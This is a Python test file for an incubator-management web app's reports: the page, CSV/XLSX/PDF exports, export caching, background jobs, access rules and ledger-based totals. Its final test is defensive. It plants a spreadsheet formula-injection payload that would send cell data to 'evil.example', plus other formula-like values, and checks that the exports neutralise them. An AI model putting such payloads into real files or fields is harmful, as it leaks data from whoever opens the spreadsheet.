"""The page and the downloads show the same figures; files are reused until the data changes; large
reports go through a job with progress."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import pypdf
import pytest
from sqlalchemy import func, select

from incubator.cohorts.models import CheckIn, Enrolment, EnrolmentStatus
from incubator.reporting.models import ExportStatus, ReportExport
from tests.conftest import page_queries
from tests.reporting.fixtures import MONTHS, YEAR

YEAR_ARGS = f"period=year&year={YEAR}"


def _report_json(client, rw, bearer_headers, cohort, org="inc-a"):
    return client.get(f"/api/v1/orgs/{org}/cohorts/{cohort.id}/report?year={YEAR}", headers=bearer_headers).get_json()


def test_page_shows_the_report(client, rw, sign_in):
    sign_in(rw.manager_a)
    text = client.get(f"/o/inc-a/reports?{YEAR_ARGS}&cohort={rw.a1.id}").get_data(as_text=True)
    for name in ("startups", "revenue", "jobs_created", "funding_total", "st_enterprises", "ip_filings"):
        assert f'data-headline="{name}"' in text
    assert 'data-headline="startups">3<' in text
    assert 'data-mentoring="sessions">3<' in text
    assert "No applications in this period." in text  # intake is not on this branch: a clear empty state
    assert 'data-startup="Alpha"' in text and 'data-startup="Delta"' not in text
    # The PDF in the page's language, and in the other one.
    assert f"/o/inc-a/reports/download.pdf?lang=vi&amp;period=year&amp;year={YEAR}&amp;cohort={rw.a1.id}" in text


def test_bad_period_is_a_form_error(client, rw, sign_in):
    sign_in(rw.manager_a)
    page = client.get("/o/inc-a/reports?period=custom&start=2025-06&end=2025-01")
    assert page.status_code == 422
    assert 'data-field="end"' in page.get_data(as_text=True)
    assert client.get("/o/inc-a/reports/download.pdf?period=quarter&quarter=9").status_code == 422


@pytest.mark.usefixtures("any_storage")  # a local folder, then an S3 bucket
def test_csv_has_one_row_per_startup_and_month(client, rw, sign_in):
    sign_in(rw.manager_a)
    response = client.get(f"/o/inc-a/reports/download.csv?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert len(rows) == 3 * len(MONTHS)
    alpha = [r for r in rows if r["Startup"] == "Alpha"]
    total = sum(int(r["Revenue"]) for r in alpha if r["Revenue"])
    assert total == sum(c["revenue"] for c in rw.checkins if c["startup"] == "s1" and c["period"].year == YEAR)


def test_xlsx_has_its_sheets_and_charts(client, rw, sign_in):
    sign_in(rw.manager_a)
    response = client.get(f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}&lang=en")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = zipfile.ZipFile(io.BytesIO(response.get_data()))
    workbook = book.read("xl/workbook.xml").decode()
    for sheet in ("Summary", "Startups", "KPI time series", "Mentoring", "Lab use", "Applications"):
        assert f'name="{sheet}"' in workbook
    assert len([n for n in book.namelist() if n.startswith("xl/charts/chart")]) >= 3
    assert "VND" in book.read("xl/styles.xml").decode()  # money cells carry the currency format
    assert "<pane " in book.read("xl/worksheets/sheet2.xml").decode()  # frozen header
    # The summary holds the same figures as the page: startups in B7, revenue in B12 (in VND).
    summary = book.read("xl/worksheets/sheet1.xml").decode()
    revenue = sum(c["revenue"] for c in rw.checkins if c["startup"] in ("s1", "s2", "s3", "s4")
                  and c["period"].year == YEAR)
    assert re.search(r'<c r="B7"[^>]*><v>4</v>', summary)
    assert re.search(rf'<c r="B12"[^>]*><v>{revenue}</v>', summary)
    # Strings are written inline (constant-memory mode): the startups and every lab booking are there.
    assert "Alpha" in book.read("xl/worksheets/sheet2.xml").decode()
    assert book.read("xl/worksheets/sheet5.xml").decode().count(">Laser<") == 3
    from openpyxl import load_workbook

    series = load_workbook(io.BytesIO(response.get_data()))["KPI time series"]
    assert series["A2"].is_date and series["A2"].value.date() == MONTHS[0]  # a date cell, not text


def test_pdf_in_both_languages_with_page_numbers(client, rw, sign_in):
    sign_in(rw.manager_a)
    for lang, words in (("en", ("Programme report", "Headline figures", "Page 1 /")),
                        ("vi", ("Báo cáo chương trình", "Số liệu chính", "Trang 1 /"))):
        response = client.get(f"/o/inc-a/reports/download.pdf?{YEAR_ARGS}&lang={lang}")
        assert response.status_code == 200 and response.mimetype == "application/pdf"
        reader = pypdf.PdfReader(io.BytesIO(response.get_data()))
        text = "\n".join(page.extract_text() for page in reader.pages)
        for word in words:
            assert word in text, (lang, word)
        assert "Incubator A" in text and "Alpha" in text
        revenue = sum(c["revenue"] for c in rw.checkins if c["startup"] in ("s1", "s2", "s3", "s4")
                      and c["period"].year == YEAR)
        formatted = f"{revenue:,}".replace(",", "." if lang == "vi" else ",")
        assert formatted in text  # the headline revenue, in the language's number format


def test_api_json_matches_the_page_figures(client, rw, session):
    from incubator.accounts.services import create_api_token

    value, _ = create_api_token(session, rw.manager_a, "t")
    session.flush()
    body = _report_json(client, rw, {"Authorization": f"Bearer {value}"}, rw.a1)
    assert body["headline"]["startups"] == 3
    assert body["headline"]["revenue"] == sum(body["trend"]["revenue"])
    assert body["mentoring"]["sessions"] == 3 and body["mentoring"]["hours"] == 3.0
    assert body["funnel"] == {"applications": 0, "reviewed": 0, "accepted": 0, "acceptance_rate": None,
                              "by_origin": {}}
    bad = client.get(f"/api/v1/orgs/inc-a/cohorts/{rw.a1.id}/report?period=custom&start=2025-05",
                     headers={"Authorization": f"Bearer {value}"})
    assert bad.status_code == 422 and "end" in bad.get_json()["fields"]
    pdf = client.get(f"/api/v1/orgs/inc-a/cohorts/{rw.a1.id}/report.pdf", headers={"Authorization": f"Bearer {value}"})
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf" and pdf.get_data()[:4] == b"%PDF"


def _exports(session) -> int:
    return session.execute(select(func.count()).select_from(ReportExport)).scalar_one()


@pytest.mark.usefixtures("any_storage")  # a local folder, then an S3 bucket
def test_a_file_is_reused_until_the_data_changes(client, rw, sign_in, session):
    sign_in(rw.manager_a)
    url = f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en"
    first = client.get(url)
    assert first.status_code == 200 and _exports(session) == 1
    assert client.get(url).get_data() == first.get_data() and _exports(session) == 1
    client.get(url.replace("lang=en", "lang=vi"))
    assert _exports(session) == 2  # another language is another file
    checkin = session.execute(select(CheckIn).where(CheckIn.startup_id == rw.startups["s1"].id)
                              .order_by(CheckIn.period).limit(1)).scalar_one()
    checkin.revenue += 1_000_000
    checkin.updated_at = datetime(2026, 3, 1, tzinfo=UTC)
    session.flush()
    client.get(url)
    assert _exports(session) == 3  # the data changed: a new file
    enrolment = session.execute(select(Enrolment).where(Enrolment.startup_id == rw.startups["s3"].id)).scalar_one()
    enrolment.status = EnrolmentStatus.GRADUATED  # withdrawn -> graduated: same length, still a change
    session.flush()
    client.get(url)
    assert _exports(session) == 4


@pytest.mark.usefixtures("any_storage")  # a local folder, then an S3 bucket
def test_large_reports_are_written_by_a_job_with_progress(app, client, rw, sign_in, session, monkeypatch):
    monkeypatch.setitem(app.config, "REPORT_JOB_MIN_STARTUPS", 2)
    sign_in(rw.funder_dost)
    response = client.get(f"/o/dost/reports/download.pdf?{YEAR_ARGS}&lang=en")
    assert response.status_code == 302
    match = re.search(r"/o/dost/reports/exports/(\d+)$", response.headers["Location"])
    assert match
    export_id = int(match.group(1))
    # The job ran when the request committed (jobs are immediate in tests).
    status = client.get(f"/o/dost/reports/exports/{export_id}/status").get_json()
    assert status["status"] == ExportStatus.READY and status["progress"] == 100
    page = client.get(f"/o/dost/reports/exports/{export_id}").get_data(as_text=True)
    assert 'data-testid="export-file"' in page
    file = client.get(status["file"])
    assert file.status_code == 200 and file.get_data()[:4] == b"%PDF"
    # Asking again serves the finished file at once.
    again = client.get(f"/o/dost/reports/download.pdf?{YEAR_ARGS}&lang=en")
    assert again.status_code == 200 and again.get_data() == file.get_data()
    # Someone who may not see every cohort of that export gets 404 for it.
    client.post("/auth/logout")
    sign_in(rw.manager_b)
    assert client.get(f"/o/dost/reports/exports/{export_id}/status").status_code == 404


def test_export_pages_need_every_cohort_visible(app, client, rw, sign_in, session, monkeypatch):
    monkeypatch.setitem(app.config, "REPORT_JOB_MIN_STARTUPS", 1)
    sign_in(rw.manager_a)
    response = client.get(f"/o/inc-a/reports/download.pdf?{YEAR_ARGS}")
    export_id = int(response.headers["Location"].rsplit("/", 1)[1])
    client.post("/auth/logout")
    sign_in(rw.funder_a)  # funds A1 only; the export covers A1 and A2
    for suffix in ("", "/status", "/file"):
        assert client.get(f"/o/inc-a/reports/exports/{export_id}{suffix}").status_code == 404


def test_targets_page(client, rw, sign_in, session):
    from incubator.core.permissions import Role
    from tests.factories import member

    owner = member(rw.dost, Role.OWNER)
    sign_in(owner)
    form = client.get(f"/o/dost/reports/targets?year={YEAR}")
    assert form.status_code == 200
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', form.get_data(as_text=True)).group(1)
    bad = client.post(f"/o/dost/reports/targets?year={YEAR}",
                      data={"csrf_token": token, "year": YEAR, "startups": "-3"})
    assert bad.status_code == 422
    saved = client.post(f"/o/dost/reports/targets?year={YEAR}",
                        data={"csrf_token": token, "year": YEAR, "startups": "10", "revenue": "2000000000"})
    assert saved.status_code == 302
    page = client.get(f"/o/dost/reports?{YEAR_ARGS}").get_data(as_text=True)
    assert 'data-testid="targets"' in page and "2.000.000.000" in page or "2,000,000,000" in page
    client.post("/auth/logout")
    sign_in(rw.funder_dost)
    assert client.get("/o/dost/reports/targets").status_code == 403  # funders read, they do not set targets
    assert date(YEAR, 1, 1)  # the fixture's year is a closed one


def _png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (120, 40), "#1a7f37").save(out, format="PNG")
    return out.getvalue()


def _images(pdf_bytes: bytes) -> int:
    """Images in the document (WeasyPrint shares one resource dictionary between the pages)."""
    return len(pypdf.PdfReader(io.BytesIO(pdf_bytes)).pages[0].images)


@pytest.mark.usefixtures("any_storage")  # a local folder, then an S3 bucket
def test_the_pdf_prints_the_uploaded_logo(client, rw, sign_in):
    sign_in(rw.manager_a)
    before = _images(client.get(f"/o/inc-a/reports/download.pdf?{YEAR_ARGS}&lang=en").get_data())
    assert client.get("/o/inc-a/reports/logo").status_code == 404
    page = client.get("/o/inc-a/reports/targets").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    refused = client.post("/o/inc-a/reports/logo", data={"csrf_token": token, "logo": (io.BytesIO(b"not an image"),
                                                                                     "logo.png")})
    assert refused.status_code == 422 and "Upload a PNG or JPEG image." in refused.get_data(as_text=True)
    saved = client.post("/o/inc-a/reports/logo", data={"csrf_token": token, "logo": (io.BytesIO(_png()), "logo.png")})
    assert saved.status_code == 302
    assert client.get("/o/inc-a/reports/logo").mimetype == "image/png"
    # The branding is part of the data behind the file: a new PDF, with one more image.
    after = _images(client.get(f"/o/inc-a/reports/download.pdf?{YEAR_ARGS}&lang=en").get_data())
    assert after == before + 1


def test_report_page_runs_a_fixed_number_of_queries(app, client, rw, sign_in, session):

    from incubator.cohorts.models import Enrolment as EnrolmentModel
    from tests.factories import StartupFactory

    sign_in(rw.funder_dost)
    url = f"/o/dost/reports?{YEAR_ARGS}"

    def count_queries() -> int:
        return page_queries(app, client, url)

    few = count_queries()
    for n in range(15):
        startup = StartupFactory(org_id=rw.b.id, name=f"More {n}", registration_number=f"M{n}")
        session.add(EnrolmentModel(org_id=rw.b.id, cohort=rw.b1, startup=startup, enrolled_on=date(YEAR, 2, 1)))
        session.add(CheckIn(org_id=rw.b.id, startup=startup, period=date(YEAR, 3, 1), revenue=1_000_000))
    session.flush()
    assert count_queries() == few
    assert 'data-headline="startups">19<' in client.get(url).get_data(as_text=True)


def test_a_failed_export_says_so(app, client, rw, sign_in, session, monkeypatch):
    from incubator.reporting import services

    def broken(*_args, **_kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setitem(app.config, "REPORT_JOB_MIN_STARTUPS", 1)
    monkeypatch.setattr(services, "render", broken)
    sign_in(rw.manager_a)
    response = client.get(f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}")
    export_id = int(response.headers["Location"].rsplit("/", 1)[1])
    assert client.get(f"/o/inc-a/reports/exports/{export_id}/status").get_json()["status"] == ExportStatus.FAILED
    page = client.get(f"/o/inc-a/reports/exports/{export_id}").get_data(as_text=True)
    assert "The report could not be generated." in page
    file = client.get(f"/o/inc-a/reports/exports/{export_id}/file")
    assert file.status_code == 302  # nothing to download: back to the export's page


@pytest.mark.usefixtures("any_storage")  # a local folder, then an S3 bucket
def test_a_finished_export_whose_file_is_missing_is_not_found(app, client, rw, sign_in, session, monkeypatch):
    """A READY row without its file key (broken data) answers 404, not a 500 from opening None."""
    from sqlalchemy import update

    monkeypatch.setitem(app.config, "REPORT_JOB_MIN_STARTUPS", 1)
    sign_in(rw.manager_a)
    response = client.get(f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}")
    export_id = int(response.headers["Location"].rsplit("/", 1)[1])
    assert client.get(f"/o/inc-a/reports/exports/{export_id}/status").get_json()["status"] == ExportStatus.READY
    session.execute(update(ReportExport).where(ReportExport.id == export_id).values(file_key=None)
                    .execution_options(all_orgs=True))
    session.flush()
    file = client.get(f"/o/inc-a/reports/exports/{export_id}/file")
    assert file.status_code == 404
    assert "There is nothing at this address." in file.get_data(as_text=True)


def test_a_lost_job_is_not_waited_for(session, rw):
    from datetime import timedelta

    from incubator.core.db import utcnow
    from incubator.reporting.services import find_pending

    export = ReportExport(org_id=rw.a.id, cache_key="k" * 64, format="pdf", locale="en", params={"cohort_ids": []},
                          status=ExportStatus.RUNNING, created_at=utcnow() - timedelta(minutes=5))
    session.add(export)
    session.flush()
    assert find_pending(session, rw.a, "k" * 64) is export
    export.created_at = utcnow() - timedelta(hours=1)
    session.flush()
    assert find_pending(session, rw.a, "k" * 64) is None


def test_the_amount_paid_is_the_money_the_ledger_received_everywhere(client, rw, sign_in, session):
    """The fixture's bookings ask 300,000 in prices; the ledger holds 110,000 net of refunds for the lab
    (100,000 paid less 40,000 refunded, 150,000 paid less 100,000 refunded) and an application fee."""
    from incubator.accounts.services import create_api_token

    net = sum(row["amount"] for row in rw.ledger if row["booking"] is not None)
    assert net == 110_000
    sign_in(rw.manager_a)
    page = client.get(f"/o/inc-a/reports?{YEAR_ARGS}&cohort={rw.a1.id}").get_data(as_text=True)
    total_row = re.search(r'data-lab="total">(.*?)</tr>', page, re.S).group(1)
    assert "₫110,000" in total_row
    machine_row = re.search(r'data-lab="machine">(.*?)</tr>', page, re.S).group(1)
    assert "₫110,000" in machine_row and "₫100,000" not in machine_row  # not the booking's price

    value, _ = create_api_token(session, rw.manager_a, "t")
    session.flush()
    body = _report_json(client, rw, {"Authorization": f"Bearer {value}"}, rw.a1)
    assert {line["kind"]: line["paid_amount"] for line in body["lab"]} == {"machine": 110_000, "room": 0}

    xlsx = zipfile.ZipFile(io.BytesIO(client.get(
        f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en").get_data()))
    lab = xlsx.read("xl/worksheets/sheet5.xml").decode()
    assert "Amount paid" in lab
    assert re.search(r'<c r="F2"[^>]*><v>110000</v>', lab)  # machine: amount paid
    assert re.search(r'<c r="F4"[^>]*><v>110000</v>', lab)  # the total
    # Each listed booking with what the ledger holds for it: the partly refunded one kept 60,000.
    assert re.search(r'<c r="I\d+"[^>]*><v>60000</v>', lab)

    pdf = client.get(f"/o/inc-a/reports/download.pdf?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en").get_data()
    text = "\n".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf)).pages)
    assert "110,000" in text


def test_a_startup_in_two_incubators_is_one_row_with_its_sources(client, rw, sign_in, session):
    """The province's report lists Alpha (R1 at A and at B) once, says whose check-in each figure is,
    and its rows add up to the headline, on the page and in the CSV, XLSX and PDF."""
    from incubator.reporting.queries import build_report
    from incubator.reporting.scope import Period

    report = build_report(session, rw.dost, [rw.a1, rw.b1], Period("year", date(YEAR, 1, 1), date(YEAR + 1, 1, 1)),
                          date(2026, 6, 1))
    alpha = next(line for line in report.startups if line.name == "Alpha")
    assert {org for org, _n in alpha.source_counts} == {"Incubator A", "Incubator B"}  # the fixture mixes both
    sign_in(rw.funder_dost)
    page = client.get(f"/o/dost/reports?{YEAR_ARGS}").get_data(as_text=True)
    assert page.count('data-startup="Alpha"') == 1 and 'data-startup="Alpha (B)"' not in page
    row = re.search(r'data-startup="Alpha">(.*?)</tr>', page, re.S).group(1)
    source = re.search(r"<td class=\"small\" data-source>(.*?)</td>", row, re.S).group(1)
    for org, months in alpha.source_counts:
        assert f"{org}: {months} of {len(alpha.sources)} months" in source
    assert "Figures from" in page and "is listed once" in page

    response = client.get(f"/o/dost/reports/download.csv?{YEAR_ARGS}&lang=en")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert len(rows) == 4 * len(MONTHS)  # four companies, twelve months each
    assert not [r for r in rows if r["Startup"] == "Alpha (B)"]
    alpha_rows = {r["Month"]: r for r in rows if r["Startup"] == "Alpha"}
    assert {m: r["Figures from"] for m, r in alpha_rows.items() if r["Figures from"]} == alpha.sources
    for name in ("Revenue", "Grants raised", "Jobs created"):
        key = {"Revenue": "revenue", "Grants raised": "funding_grant", "Jobs created": "jobs_created"}[name]
        assert sum(int(r[name]) for r in rows if r[name]) == report.headline[key], name

    xlsx = zipfile.ZipFile(io.BytesIO(client.get(f"/o/dost/reports/download.xlsx?{YEAR_ARGS}&lang=en").get_data()))
    startups = xlsx.read("xl/worksheets/sheet2.xml").decode()
    assert "Figures from" in startups and ">Alpha<" in startups and ">Alpha (B)<" not in startups
    assert f"Incubator A: {dict(alpha.source_counts)['Incubator A']} of {len(alpha.sources)} months" in startups

    pdf = client.get(f"/o/dost/reports/download.pdf?{YEAR_ARGS}&lang=en").get_data()
    text = " ".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf)).pages)
    assert "Alpha (B)" not in text and "Figures from" in text


def test_a_refund_makes_a_new_file(client, rw, sign_in, session):
    """The ledger is part of the data behind a file: a refund after a download is in the next one."""
    from incubator.ledger.models import LedgerEntry, LedgerKind

    sign_in(rw.manager_a)
    url = f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en"
    first = zipfile.ZipFile(io.BytesIO(client.get(url).get_data())).read("xl/worksheets/sheet5.xml").decode()
    assert re.search(r'<c r="F2"[^>]*><v>110000</v>', first) and _exports(session) == 1
    session.add(LedgerEntry(org_id=rw.a.id, kind=LedgerKind.REFUND, startup_id=rw.startups["s1"].id,
                            booking_id=rw.bookings[1]["id"], amount=-10_000, currency="VND"))
    session.flush()
    again = zipfile.ZipFile(io.BytesIO(client.get(url).get_data())).read("xl/worksheets/sheet5.xml").decode()
    assert _exports(session) == 2 and re.search(r'<c r="F2"[^>]*><v>100000</v>', again)


def test_text_that_a_spreadsheet_would_run_is_neither_a_formula_in_the_csv_nor_in_the_xlsx(client, rw, sign_in,
                                                                                         session):
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Report")'
    rw.startups["s3"].name = attack
    rw.startups["s2"].name = "@SUM(A1:A9)"
    rw.startups["s2"].registration_number = "-2+3"
    rw.a1.name = "+A1 cohort"
    session.flush()
    sign_in(rw.manager_a)
    response = client.get(f"/o/inc-a/reports/download.csv?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en")
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, as before
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    names = {r["Startup"] for r in rows}
    assert "'" + attack in names and "'@SUM(A1:A9)" in names and attack not in names
    assert {r["Registration number"] for r in rows if r["Startup"] == "'@SUM(A1:A9)"} == {"'-2+3"}
    assert {r["Cohorts"] for r in rows} == {"'+A1 cohort"}
    # Figures are numbers, as they were.
    assert all(r["Revenue"] == "" or r["Revenue"].isdigit() for r in rows)

    book = zipfile.ZipFile(io.BytesIO(client.get(
        f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en").get_data()))
    for name in book.namelist():
        if name.startswith("xl/worksheets/sheet"):
            assert "<f>" not in book.read(name).decode(), name  # no formula anywhere
    startups = book.read("xl/worksheets/sheet2.xml").decode()
    assert "<t>=HYPERLINK(\"http://evil.example/?d=\"&amp;A1,\"Report\")</t>" in startups  # as text
